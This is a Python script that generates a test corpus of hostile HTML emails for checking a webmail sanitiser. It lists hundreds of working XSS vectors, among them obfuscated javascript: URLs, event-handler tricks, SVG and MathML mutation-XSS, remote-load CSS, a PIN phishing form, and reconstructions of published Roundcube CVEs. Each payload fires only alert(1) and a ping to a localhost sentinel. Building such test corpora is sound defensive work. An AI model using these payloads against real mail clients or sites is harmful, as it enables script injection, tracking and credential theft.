#!/usr/bin/env python3
"""Writes the hostile HTML corpus: one small .eml per vector, named after it.

Every script payload calls alert() and requests the sentinel (http://127.0.0.1:17790/js/<name>);
every remote load points at the sentinel too (/remote/<name>). The browser test counts dialogs,
console markers and sentinel hits; the unit tests check the sanitised output statically.
Run: python3 generate.py  (rewrites every *.eml in this directory; the files are committed).
"""
import base64, os, email.charset, email.policy
from email.mime.text import MIMEText
from email.mime.multipart import MIMEMultipart
from email.mime.image import MIMEImage

S = "http://127.0.0.1:17790"
HERE = os.path.dirname(os.path.abspath(__file__))
V = []  # (name, html, description)

def js(n):
    return f"alert(1);new Image().src='{S}/js/{n}'"

def add(name, html, desc):
    V.append((name, html, desc))

# --- scripts -----------------------------------------------------------------
add("script-inline", "<p>Bonjour</p><script>{J}</script>", "plain inline script")
add("script-src-remote", f"<script src=\"{S}/remote/script-src-remote.js\"></script>", "external script")
add("script-uppercase", "<SCRIPT>{J}</SCRIPT>", "upper-case tag")
add("script-mixed-case", "<ScRiPt>{J}</sCrIpT>", "mixed-case tag")
add("script-module", "<script type=\"module\">{J}</script>", "module script")
add("script-slash-attribute", f"<script/xss src=\"{S}/remote/script-slash-attribute.js\"></script>", "slash as attribute separator")
add("script-split-tag", "<scr<script>ipt>{J}</scr</script>ipt>", "tag split to survive naive stripping")
add("script-in-head", "<html><head><script>{J}</script></head><body>texte</body></html>", "script in head")
add("script-after-html", "<html><body>x</body></html><script>{J}</script>", "script after the document end")
add("script-in-table", "<table><tr><td>a</td><script>{J}</script></tr></table>", "script foster-parented from table")
add("script-newline-in-tag", "<script\n>{J}</script\n>", "newline inside the tag")
add("script-double-open", "<<script>{J}//<</script>", "double angle bracket")
add("script-unclosed", "<p>x</p><script>{J}", "unterminated script")
add("script-in-title", "<title></title><script>{J}</script></title>", "title closed early")
add("script-textarea-breakout", "<textarea></textarea><script>{J}</script></textarea>", "textarea closed early")
add("script-in-attribute-breakout", "<p title=\"\"><script>{J}</script>\">x</p>", "quote breakout attempt")
add("script-entity-tag", "&lt;script&gt;{J}&lt;/script&gt;<p>escaped text must stay text</p>", "escaped script stays text")
add("script-xlink-svg", "<svg><script xlink:href=\"data:,{J}\"></script></svg>", "svg script by xlink:href")
add("script-charset-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "UTF-7 encoded script text")
add("script-nul-in-tag", "<scri\u0000pt>{J}</script>", "NUL inside tag name")

# --- event handlers: every family ---------------------------------------------
handlers = [
    ("onerror", "<img src=x onerror=\"{J}\">"),
    ("onload", "<body onload=\"{J}\">x</body>"),
    ("onload-img-data", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"{J}\">"),
    ("onclick", "<a onclick=\"{J}\">clic</a>"),
    ("ondblclick", "<div ondblclick=\"{J}\">x</div>"),
    ("onmouseover", "<div style=\"width:100%;height:2000px\" onmouseover=\"{J}\">survol</div>"),
    ("onmouseenter", "<div style=\"width:100%;height:2000px\" onmouseenter=\"{J}\">x</div>"),
    ("onmousemove", "<div style=\"width:100%;height:2000px\" onmousemove=\"{J}\">x</div>"),
    ("onmousedown", "<div onmousedown=\"{J}\">x</div>"),
    ("onmouseup", "<div onmouseup=\"{J}\">x</div>"),
    ("onmouseout", "<div onmouseout=\"{J}\">x</div>"),
    ("onmouseleave", "<div onmouseleave=\"{J}\">x</div>"),
    ("onpointerdown", "<div onpointerdown=\"{J}\">x</div>"),
    ("onpointerover", "<div style=\"height:2000px\" onpointerover=\"{J}\">x</div>"),
    ("onpointerenter", "<div style=\"height:2000px\" onpointerenter=\"{J}\">x</div>"),
    ("onpointermove", "<div style=\"height:2000px\" onpointermove=\"{J}\">x</div>"),
    ("oncontextmenu", "<div oncontextmenu=\"{J}\">x</div>"),
    ("onauxclick", "<div onauxclick=\"{J}\">x</div>"),
    ("onwheel", "<div onwheel=\"{J}\">x</div>"),
    ("onscroll", "<div style=\"overflow:auto;height:50px\" onscroll=\"{J}\"><br><br><br><br><br><br>x</div>"),
    ("onscrollend", "<div style=\"overflow:auto;height:50px\" onscrollend=\"{J}\"><br><br><br><br>x</div>"),
    ("onfocus-autofocus", "<input autofocus onfocus=\"{J}\">"),
    ("onfocus-tabindex", "<a id=x tabindex=1 onfocus=\"{J}\" href=\"#x\">x</a>"),
    ("onblur", "<input autofocus onblur=\"{J}\"><input autofocus>"),
    ("onfocusin", "<div onfocusin=\"{J}\"><input autofocus></div>"),
    ("onfocusout", "<div onfocusout=\"{J}\"><input autofocus></div>"),
    ("onkeydown", "<input autofocus onkeydown=\"{J}\">"),
    ("onkeyup", "<input autofocus onkeyup=\"{J}\">"),
    ("onkeypress", "<input autofocus onkeypress=\"{J}\">"),
    ("oninput", "<input autofocus oninput=\"{J}\">"),
    ("onbeforeinput", "<div contenteditable autofocus onbeforeinput=\"{J}\">x</div>"),
    ("onchange", "<select onchange=\"{J}\"><option>a<option>b</select>"),
    ("onselect", "<input value=abc autofocus onselect=\"{J}\">"),
    ("oninvalid", "<form><input required oninvalid=\"{J}\"><button>ok</button></form>"),
    ("onsubmit", "<form onsubmit=\"{J}\"><button>Envoyer</button></form>"),
    ("onreset", "<form onreset=\"{J}\"><button type=reset>x</button></form>"),
    ("onformdata", "<form onformdata=\"{J}\"><button>x</button></form>"),
    ("onsearch", "<input type=search onsearch=\"{J}\">"),
    ("oncopy", "<p oncopy=\"{J}\">copiez-moi</p>"),
    ("oncut", "<p contenteditable oncut=\"{J}\">x</p>"),
    ("onpaste", "<p contenteditable onpaste=\"{J}\">x</p>"),
    ("ondrag", "<p draggable=true ondrag=\"{J}\">x</p>"),
    ("ondragstart", "<p draggable=true ondragstart=\"{J}\">x</p>"),
    ("ondragend", "<p draggable=true ondragend=\"{J}\">x</p>"),
    ("ondragover", "<p ondragover=\"{J}\">x</p>"),
    ("ondrop", "<p ondrop=\"{J}\">x</p>"),
    ("onanimationstart", "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style><p style=\"animation:k 1s\" onanimationstart=\"{J}\">x</p>"),
    ("onanimationend", "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style><p style=\"animation:k 0.01s\" onanimationend=\"{J}\">x</p>"),
    ("onanimationiteration", "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style><p style=\"animation:k 0.01s 3\" onanimationiteration=\"{J}\">x</p>"),
    ("onwebkitanimationstart", "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style><p style=\"animation:k 1s\" onwebkitanimationstart=\"{J}\">x</p>"),
    ("ontransitionend", "<style>p:hover{{color:red}}</style><p style=\"transition:color 0.01s\" ontransitionend=\"{J}\">x</p>"),
    ("ontransitionrun", "<p style=\"transition:color 0.01s\" ontransitionrun=\"{J}\">x</p>"),
    ("ontoggle-details", "<details open ontoggle=\"{J}\"><summary>x</summary>y</details>"),
    ("onbeforetoggle-popover", "<div popover id=p onbeforetoggle=\"{J}\">x</div><button popovertarget=p>x</button>"),
    ("onpageshow", "<body onpageshow=\"{J}\">x</body>"),
    ("onhashchange", "<body onhashchange=\"{J}\"><a href=\"#z\">x</a></body>"),
    ("onpopstate", "<body onpopstate=\"{J}\">x</body>"),
    ("onmessage", "<body onmessage=\"{J}\">x</body>"),
    ("onresize", "<body onresize=\"{J}\">x</body>"),
    ("onbeforeprint", "<body onbeforeprint=\"{J}\">x</body>"),
    ("onafterprint", "<body onafterprint=\"{J}\">x</body>"),
    ("onbeforeunload", "<body onbeforeunload=\"{J}\">x</body>"),
    ("onunload", "<body onunload=\"{J}\">x</body>"),
    ("onpagehide", "<body onpagehide=\"{J}\">x</body>"),
    ("onfocus-body", "<body onfocus=\"{J}\">x</body>"),
    ("onselectionchange", "<body onselectionchange=\"{J}\">x</body>"),
    ("onselectstart", "<p onselectstart=\"{J}\">x</p>"),
    ("onplay-video", f"<video autoplay muted onplay=\"{{J}}\" src=\"{S}/remote/onplay-video.mp4\"></video>"),
    ("onerror-video", "<video src=x onerror=\"{J}\"></video>"),
    ("onerror-audio", "<audio src=x onerror=\"{J}\"></audio>"),
    ("onloadstart-video", "<video src=x onloadstart=\"{J}\"></video>"),
    ("onerror-source", "<video><source onerror=\"{J}\"></video>"),
    ("onerror-object", "<object data=x onerror=\"{J}\"></object>"),
    ("onload-iframe", "<iframe onload=\"{J}\"></iframe>"),
    ("onload-style", "<style onload=\"{J}\"></style>"),
    ("onload-link", "<link rel=stylesheet href=\"data:text/css,\" onload=\"{J}\">"),
    ("onerror-script", "<script src=x onerror=\"{J}\"></script>"),
    ("onerror-input-image", "<input type=image src=x onerror=\"{J}\">"),
    ("onstart-marquee", "<marquee onstart=\"{J}\">x</marquee>"),
    ("onfinish-marquee", "<marquee loop=1 width=1 onfinish=\"{J}\">x</marquee>"),
    ("onbounce-marquee", "<marquee behavior=alternate onbounce=\"{J}\">x</marquee>"),
    ("oncuechange-track", "<video><track default src=x oncuechange=\"{J}\"></video>"),
    ("oncontentvisibility", "<p style=\"content-visibility:auto\" oncontentvisibilityautostatechange=\"{J}\">x</p>"),
    ("onfullscreenchange", "<div onfullscreenchange=\"{J}\">x</div>"),
    ("onbegin-svg-animate", "<svg><animate onbegin=\"{J}\" attributeName=x dur=1s></svg>"),
    ("onend-svg-animate", "<svg><animate onend=\"{J}\" attributeName=x dur=0.01s></svg>"),
    ("onrepeat-svg-animate", "<svg><animate onrepeat=\"{J}\" attributeName=x dur=0.01s repeatCount=3></svg>"),
    ("onload-svg", "<svg onload=\"{J}\"></svg>"),
    ("onerror-svg-image", "<svg><image href=x onerror=\"{J}\"></svg>"),
    ("handler-mixed-case", "<img src=x OnErRoR=\"{J}\">"),
    ("handler-unquoted", "<img src=x onerror={J_NOSPACE}>"),
    ("handler-backtick", "<img src=x onerror=`{J}`>"),
    ("handler-slash-separator", "<img/src=x/onerror=\"{J}\">"),
    ("handler-tab-separator", "<img\tsrc=x\tonerror=\"{J}\">"),
    ("handler-newline-separator", "<img\nsrc=x\nonerror=\"{J}\">"),
    ("handler-duplicate-attribute", "<img src=x onerror=\"\" onerror=\"{J}\">"),
    ("handler-entity-encoded-js", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;;new Image().src='" + S + "/js/handler-entity-encoded-js'\">"),
    ("handler-on-unknown-element", "<xss onclick=\"{J}\" style=\"display:block;height:2000px\">x</xss>"),
    ("handler-on-custom-element", "<mss-box onmouseover=\"{J}\">x</mss-box>"),
]
for n, h in handlers:
    add("event-" + n, h, "event handler " + n)

# --- URL schemes, obfuscated --------------------------------------------------
J0 = "alert(1)"
def link(name, href, desc):
    add("url-" + name, f"<a href=\"{href}\" id=lien>Ouvrir le compte rendu</a>", desc)
link("javascript", f"javascript:{J0}", "javascript: link")
link("javascript-upper", f"JAVASCRIPT:{J0}", "upper case")
link("javascript-mixed", f"JaVaScRiPt:{J0}", "mixed case")
link("javascript-decimal-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + J0, "decimal entities")
link("javascript-hex-entities", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;" + J0, "hex entities")
link("javascript-entities-no-semicolon", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58" + J0, "entities without semicolons")
link("javascript-entities-leading-zeros", "&#0000106&#0000097vascript:" + J0, "entities with leading zeros")
link("javascript-hex-no-semicolon", "&#x6Aavascript&#x3A" + J0, "hex entities without semicolons")
link("javascript-tab", "jav\tascript:" + J0, "literal tab")
link("javascript-tab-entity", "jav&#x09;ascript:" + J0, "tab entity")
link("javascript-named-tab", "jav&Tab;ascript:" + J0, "&Tab; named entity")
link("javascript-newline", "jav\nascript:" + J0, "literal newline")
link("javascript-newline-entity", "jav&#10;ascript:" + J0, "newline entity")
link("javascript-named-newline", "jav&NewLine;ascript:" + J0, "&NewLine; named entity")
link("javascript-cr-entity", "jav&#13;ascript:" + J0, "carriage return entity")
link("javascript-leading-space", "   javascript:" + J0, "leading spaces")
link("javascript-leading-control", "&#x01;javascript:" + J0, "leading control character")
link("javascript-leading-nbsp", "&#xA0;javascript:" + J0, "leading no-break space")
link("javascript-colon-entity", "javascript&colon;" + J0, "&colon; named entity")
link("javascript-comment-newline", "javascript://%0a" + J0, "comment then encoded newline")
link("javascript-url-encoded-scheme", "javascript%3A" + J0, "percent-encoded colon")
link("vbscript", "vbscript:msgbox(1)", "vbscript:")
link("vbscript-mixed", "VbScRiPt:msgbox(1)", "vbscript: mixed case")
link("livescript", "livescript:" + J0, "livescript:")
link("data-html", "data:text/html,<script>" + J0 + "</script>", "data:text/html link")
link("data-html-base64", "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(), "data:text/html base64 link")
link("data-svg", "data:image/svg+xml,<svg onload=alert(1)>", "data: SVG link")
link("relative-webmail-route", "/deconnexion", "relative URL resolving against the webmail")
link("protocol-relative", "//127.0.0.1:17790/remote/url-protocol-relative", "protocol-relative URL")
link("backslash-host", "/\\127.0.0.1:17790/remote/url-backslash-host", "backslashes read as slashes")
add("url-img-javascript", "<img src=\"javascript:" + J0 + "\">", "javascript: image")
add("url-img-data-svg-script", "<img src=\"data:image/svg+xml;base64," + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('url-img-data-svg-script')}\"/>".encode()).decode() + "\">", "SVG data image with script")
add("url-img-data-html", "<img src=\"data:text/html,<script>alert(1)</script>\">", "data:text/html image")
add("url-area-javascript", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" usemap=#m width=100 height=100><map name=m><area href=\"javascript:" + J0 + "\" shape=default></map>", "image map area")
add("url-form-action-javascript", "<form action=\"javascript:" + J0 + "\"><button>Valider</button></form>", "form action javascript:")
add("url-iframe-javascript", "<iframe src=\"javascript:" + J0 + "\"></iframe>", "iframe javascript:")
add("url-object-javascript", "<object data=\"javascript:" + J0 + "\"></object>", "object javascript:")
add("url-embed-javascript", "<embed src=\"javascript:" + J0 + "\">", "embed javascript:")
add("url-a-xlink-href", "<a xlink:href=\"javascript:" + J0 + "\">x</a>", "xlink:href on an HTML link")

# --- SVG ------------------------------------------------------------------------
add("svg-script", "<svg><script>{J}</script></svg>", "script inside SVG")
add("svg-script-cdata", "<svg><script><![CDATA[{J}]]></script></svg>", "CDATA script in SVG")
add("svg-animate-href", "<svg><a><animate attributeName=href values=\"javascript:alert(1)\"/><text x=20 y=20>Cliquez</text></a></svg>", "animate sets href")
add("svg-set-href", "<svg><a><set attributeName=href to=\"javascript:alert(1)\"/><text x=20 y=20>Cliquez</text></a></svg>", "set sets href")
add("svg-animate-xlink-href", "<svg><a xmlns:xlink=\"http://www.w3.org/1999/xlink\"><animate attributeName=\"xlink:href\" values=\"javascript:alert(1)\"/><text x=20 y=20>x</text></a></svg>", "animate sets xlink:href")
add("svg-use-data", "<svg><use href=\"data:image/svg+xml;base64," + base64.b64encode(f"<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror=\"{js('svg-use-data')}\"/></svg>".encode()).decode() + "#u\"/></svg>", "use href data:")
add("svg-use-remote", f"<svg><use href=\"{S}/remote/svg-use-remote.svg#x\"/></svg>", "use href remote")
add("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe><img src=x onerror=\"{J}\"></foreignObject></svg>", "foreignObject with HTML")
add("svg-a-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>", "SVG link to javascript:")
add("svg-image-remote", f"<svg><image href=\"{S}/remote/svg-image-remote.png\"/></svg>", "SVG image remote")
add("svg-feimage-remote", f"<svg><filter id=f><feImage href=\"{S}/remote/svg-feimage-remote.png\"/></filter><rect filter=\"url(#f)\" width=10 height=10 /></svg>", "feImage loads a remote image")
add("svg-style-import", f"<svg><style>@import url({S}/remote/svg-style-import.css);</style></svg>", "style @import in SVG")
add("svg-title-breakout", "<svg><title><img src=x onerror=\"{J}\"></title></svg>", "HTML inside SVG title")
add("svg-desc-breakout", "<svg><desc><img src=x onerror=\"{J}\"></desc></svg>", "HTML inside SVG desc")
add("svg-handler-set-onload", "<svg><set attributeName=onload to=\"alert(1)\"/></svg>", "set writes a handler")
add("svg-animate-values-entity", "<svg><a><animate attributeName=href values=\"&#106;avascript:alert(1)\"/><text x=20 y=20>x</text></a></svg>", "animate values with entities")
add("svg-in-img-src", "<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">", "SVG in image src")
add("svg-discard", "<svg><discard onbegin=\"{J}\"/></svg>", "discard element with onbegin")
add("svg-p-breakout", "<svg><p><style><img src=x onerror=\"{J}\"></style></p></svg>", "p breaks out of SVG")

# --- CSS -------------------------------------------------------------------------
add("css-expression", "<p style=\"width:expression(alert(1))\">x</p>", "IE expression()")
add("css-expression-comment", "<p style=\"width:exp/**/ression(alert(1))\">x</p>", "expression split by a comment")
add("css-expression-escape", "<p style=\"width:e\\xpression(alert(1))\">x</p>", "expression with escape")
add("css-behavior", f"<p style=\"behavior:url({S}/remote/css-behavior.htc)\">x</p>", "IE behavior")
add("css-moz-binding", f"<p style=\"-moz-binding:url({S}/remote/css-moz-binding.xml#x)\">x</p>", "-moz-binding")
add("css-url-javascript", "<p style=\"background:url(javascript:alert(1))\">x</p>", "url(javascript:)")
add("css-url-javascript-escaped", "<p style=\"background:url(\\6a avascript:alert(1))\">x</p>", "url() with CSS escapes")
add("css-url-escaped-function", f"<p style=\"background:\\75 rl({S}/remote/css-url-escaped-function.png)\">x</p>", "escaped url function name")
add("css-import-url", f"<style>@import url({S}/remote/css-import-url.css);</style>", "@import url()")
add("css-import-string", f"<style>@import '{S}/remote/css-import-string.css';</style>", "@import string")
add("css-import-escaped", f"<style>@\\69mport '{S}/remote/css-import-escaped.css';</style>", "escaped @import")
add("css-background-remote", f"<div style=\"background-image:url({S}/remote/css-background-remote.png);height:20px\">x</div>", "remote background image")
add("css-style-block-remote", f"<style>p{{background:url('{S}/remote/css-style-block-remote.png')}}</style><p>x</p>", "remote image from a style block")
add("css-list-style-remote", f"<ul style=\"list-style-image:url({S}/remote/css-list-style-remote.png)\"><li>x</li></ul>", "list-style-image remote")
add("css-font-face-remote", f"<style>@font-face{{font-family:x;src:url({S}/remote/css-font-face-remote.woff)}}p{{font-family:x}}</style><p>x</p>", "remote web font")
add("css-image-set", f"<div style=\"background-image:image-set('{S}/remote/css-image-set.png' 1x);height:20px\">x</div>", "image-set() with a string URL")
add("css-cursor-remote", f"<div style=\"cursor:url({S}/remote/css-cursor-remote.cur),auto\">x</div>", "cursor url")
add("css-border-image-remote", f"<div style=\"border:5px solid;border-image:url({S}/remote/css-border-image-remote.png) 30\">x</div>", "border-image remote")
add("css-content-url", f"<style>p::before{{content:url({S}/remote/css-content-url.png)}}</style><p>x</p>", "content: url()")
add("css-position-fixed", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">Votre session a expiré, saisissez votre code PIN</div>", "full-window overlay")
add("css-style-breakout", "<style>p{{color:red}}</style><script>{J}</script></style>", "closing style early")
add("css-style-closing-in-string", "<style>p{{content:'</style><img src=x onerror=\"{J}\">'}}</style>", "closing style inside a CSS string")
add("css-link-stylesheet", f"<link rel=stylesheet href=\"{S}/remote/css-link-stylesheet.css\"><p>x</p>", "external stylesheet")
add("css-link-prefetch", f"<link rel=prefetch href=\"{S}/remote/css-link-prefetch\"><link rel=dns-prefetch href=\"{S}\"><link rel=preconnect href=\"{S}\"><p>x</p>", "prefetch and preconnect")
add("css-unicode-escaped-javascript", "<style>a{{background:url(\"\\6a\\61\\76\\61script:alert(1)\")}}</style><a>x</a>", "escaped javascript: in url string")
add("css-body-selector-escape", "<style>body{{background:red}} :root{{color:blue}} html body p{{color:green}}</style><p>x</p>", "html/body/:root selectors stay inside the container")
add("css-var-url", f"<div style=\"--u:url({S}/remote/css-var-url.png);background-image:var(--u);height:20px\">x</div>", "remote URL through a custom property")
add("css-keyframes-animation-handler", "<style>@keyframes x{{}}</style><p style=\"animation-name:x\" onanimationstart=\"{J}\">x</p>", "animation to trigger a handler")

# --- meta, base --------------------------------------------------------------------
add("meta-refresh-javascript", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta refresh to javascript:")
add("meta-refresh-remote", f"<meta http-equiv=\"refresh\" content=\"0;url={S}/remote/meta-refresh-remote\">", "meta refresh to a remote page")
add("meta-refresh-data", "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">", "meta refresh to data:")
add("meta-csp-override", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><script>{J}</script>", "message tries to relax the CSP")
add("base-href-remote", f"<base href=\"{S}/remote/base-href-remote/\"><img src=\"pixel.png\"><a href=\"page\">x</a>", "base href remote")
add("base-href-javascript", "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>", "base href javascript:")
add("base-target", "<base target=\"_top\"><a href=\"https://example.org/\">x</a>", "base target")

# --- forms -----------------------------------------------------------------------------
add("form-action-remote", f"<form action=\"{S}/remote/form-action-remote\" method=post>Code PIN : <input type=password name=pin><button>Valider</button></form>", "phishing form")
add("form-formaction", f"<form><button formaction=\"{S}/remote/form-formaction\">Valider</button></form>", "button formaction")
add("form-formaction-javascript", "<form><button formaction=\"javascript:alert(1)\">Valider</button></form>", "formaction javascript:")
add("form-input-image-remote", f"<input type=image src=\"{S}/remote/form-input-image-remote.png\">", "input type=image remote")
add("form-isindex", "<isindex action=\"javascript:alert(1)\" type=image>", "isindex")
add("form-autosubmit-attr", f"<form id=f action=\"{S}/remote/form-autosubmit-attr\"></form><button form=f autofocus>ok</button>", "form attribute on a button")
add("form-textarea-breakout", "<textarea><img src=x onerror=\"{J}\"></textarea>", "textarea content")
add("form-select-breakout", "<select><option><img src=x onerror=\"{J}\"></option></select>", "select content")
add("form-keygen", "<keygen autofocus onfocus=\"{J}\">", "keygen")

# --- frames, objects -------------------------------------------------------------------
add("iframe-remote", f"<iframe src=\"{S}/remote/iframe-remote\"></iframe>", "iframe remote")
add("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;" + js("iframe-srcdoc").replace("'", "&#39;") + "&lt;/script&gt;\"></iframe>", "iframe srcdoc")
add("iframe-data", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>", "iframe data:")
add("frameset", f"<frameset><frame src=\"{S}/remote/frameset\"></frameset>", "frameset")
add("object-data-remote", f"<object data=\"{S}/remote/object-data-remote.swf\"></object>", "object remote")
add("object-param", f"<object><param name=movie value=\"{S}/remote/object-param.swf\"><param name=src value=\"javascript:alert(1)\"></object>", "object param")
add("object-data-html", "<object data=\"data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode() + "\"></object>", "object data:text/html")
add("embed-remote", f"<embed src=\"{S}/remote/embed-remote.swf\">", "embed remote")
add("embed-svg", "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\" type=\"image/svg+xml\">", "embed SVG")
add("applet", f"<applet code=X codebase=\"{S}/remote/applet\"></applet>", "applet")
add("portal", f"<portal src=\"{S}/remote/portal\"></portal>", "portal")
add("fencedframe", f"<fencedframe src=\"{S}/remote/fencedframe\"></fencedframe>", "fencedframe")

# --- MathML ------------------------------------------------------------------------------
add("mathml-maction", "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">Cliquez<mtext>x</mtext></maction></math>", "maction with link")
add("mathml-href", "<math href=\"javascript:alert(1)\"><mi>x</mi></math>", "MathML href")
add("mathml-mi-xlink", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "mi xlink:href")
add("mathml-annotation-xml", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\"{J}\"></annotation-xml></math>", "annotation-xml with HTML")
add("mathml-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=\"{J}\"></style></mglyph></table></mtext></math>", "mglyph style differential")
add("mathml-mtext-table-mglyph", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "math/mtext/table/mglyph/style mXSS")

# --- mutation XSS ----------------------------------------------------------------------------
add("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=\"{J}\">\"></noscript>", "noscript parsing differential")
add("mxss-noscript-style", "<noscript><style></noscript><img src=x onerror=\"{J}\"></style></noscript>", "noscript with style")
add("mxss-template", "<template><script>{J}</script><img src=x onerror=\"{J}\"></template>", "template content")
add("mxss-template-in-select", "<select><template><style><!--</style><a rel=\"--></template></select><img src=x onerror=alert(1)>\"></a></style></template></select>", "template inside select")
add("mxss-comment-short", "<!--><img src=x onerror=\"{J}\">-->", "abruptly closed comment")
add("mxss-comment-bang", "<!-- --!><img src=x onerror=\"{J}\">-->", "comment closed with --!>")
add("mxss-comment-in-attribute", "<p title=\"<!--\">x</p><img src=x onerror=\"{J}\"><p title=\"-->\">y</p>", "comment markers in attributes")
add("mxss-cdata-html", "<![CDATA[<img src=x onerror=\"{J}\">]]>", "CDATA in HTML content")
add("mxss-cdata-svg", "<svg><![CDATA[><img src=x onerror=\"{J}\">]]></svg>", "CDATA in SVG")
add("mxss-style-in-svg", "<svg></p><style><a id=\"</style><img src=1 onerror=\"{J}\">\">", "style in SVG differential")
add("mxss-form-math-mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{J}\">", "nested form, math and mglyph")
add("mxss-noembed", "<noembed><img title=\"</noembed><img src=x onerror=\"{J}\">\"></noembed>", "noembed")
add("mxss-noframes", "<noframes><img title=\"</noframes><img src=x onerror=\"{J}\">\"></noframes>", "noframes")
add("mxss-xmp", "<xmp><img title=\"</xmp><img src=x onerror=\"{J}\">\"></xmp>", "xmp")
add("mxss-iframe-text", "<iframe><img title=\"</iframe><img src=x onerror=\"{J}\">\"></iframe>", "iframe raw text")
add("mxss-title-text", "<title><img title=\"</title><img src=x onerror=\"{J}\">\"></title>", "title raw text")
add("mxss-plaintext", "<plaintext><img src=x onerror=\"{J}\">", "plaintext")
add("mxss-nested-a-table", "<a href=\"https://example.org/\"><table><a href=\"javascript:alert(1)\">x</a></table></a>", "nested links through table")
add("mxss-backtick-attribute", "<img src=\"x` `<script>{J}</script>\"` `>", "backtick attribute quoting")
add("mxss-namespace-confusion", "<svg><foreignobject><math><mi><style><img src=x onerror=\"{J}\"></style></mi></math></foreignobject></svg>", "namespace confusion")

# --- Roundcube CVE vectors (our own messages built on the published ideas) -----------------
add("cve-2023-5631-svg-use-data-tab", "<svg><use href=\"dAta:image/s\tvg+xml;base64," + base64.b64encode(f"<svg id=\"y\" xmlns=\"http://www.w3.org/2000/svg\"><image href=\"z\" onerror=\"{js('cve-2023-5631-svg-use-data-tab')}\"/></svg>".encode()).decode() + "#y\"/></svg>", "CVE-2023-5631: use href with data: SVG split by a tab")
add("cve-2023-5631-svg-use-data-newline", "<svg><use href=\"data:image/svg&#10;+xml;base64," + base64.b64encode(f"<svg id=\"y\" xmlns=\"http://www.w3.org/2000/svg\"><image href=\"z\" onerror=\"{js('cve-2023-5631-svg-use-data-newline')}\"/></svg>".encode()).decode() + "#y\"/></svg>", "CVE-2023-5631 variant with a newline entity")
add("cve-2024-37383-animate-href-space", "<svg><a><animate attributeName=\"href \" values=\"javascript:alert(1)\" /><text x=\"20\" y=\"20\">Ouvrir</text></a></svg>", "CVE-2024-37383: attributeName with a trailing space")
add("cve-2024-37383-animate-values-list", "<svg><a><animate attributeName=\"href\" dur=\"5s\" repeatCount=\"indefinite\" keytimes=\"0\" values=\"https://example.org/;javascript:alert(1)\" /><text x=\"20\" y=\"20\">Ouvrir</text></a></svg>", "CVE-2024-37383: javascript: as the second value")
add("cve-2024-37383-animate-href-upper", "<svg><a><animate attributeName=\"HREF\" values=\" javascript:alert(1)\" /><text x=\"20\" y=\"20\">Ouvrir</text></a></svg>", "CVE-2024-37383 variant in upper case")
add("cve-2024-42009-body-attribute-smuggling", "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes onanimationstart={J_NOSPACE} foo=bar\">Compte rendu</body>", "CVE-2024-42009: handler smuggled in an attribute value re-parsed by post-processing")
add("cve-2024-42009-bgcolor-breakout", "<body bgcolor=\"#fff&quot; onload=&quot;alert(1)\" text=\"red; background:url(" + S + "/remote/cve-2024-42009-bgcolor-breakout.png)\">x</body>", "CVE-2024-42009 variant: body colours reused as CSS")
add("cve-2024-42009-link-attribute", "<a href=\"https://example.org/\" title=\"href=javascript:alert(1) style=animation-name:x onanimationstart=alert(1)\">x</a>", "CVE-2024-42009 variant: attribute-looking text in a title")
add("cve-2020-35730-plain-text-breakout", "<p>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>", "escaped markup must stay text (CVE-2020-35730 family)")

# --- remote resources without script (privacy) -------------------------------------------------
add("remote-img", f"<p>Lettre de liaison</p><img src=\"{S}/remote/remote-img.png\" width=1 height=1>", "tracking pixel")
add("remote-img-srcset", f"<img srcset=\"{S}/remote/remote-img-srcset.png 1x\">", "srcset")
add("remote-picture-source", f"<picture><source srcset=\"{S}/remote/remote-picture-source.png\"><img alt=x></picture>", "picture source")
add("remote-background-attribute", f"<table background=\"{S}/remote/remote-background-attribute.png\"><tr><td>x</td></tr></table>", "table background attribute")
add("remote-body-background", f"<body background=\"{S}/remote/remote-body-background.png\">x</body>", "body background attribute")
add("remote-video-poster", f"<video poster=\"{S}/remote/remote-video-poster.png\"></video>", "video poster")
add("remote-audio", f"<audio autoplay src=\"{S}/remote/remote-audio.mp3\"></audio>", "audio")
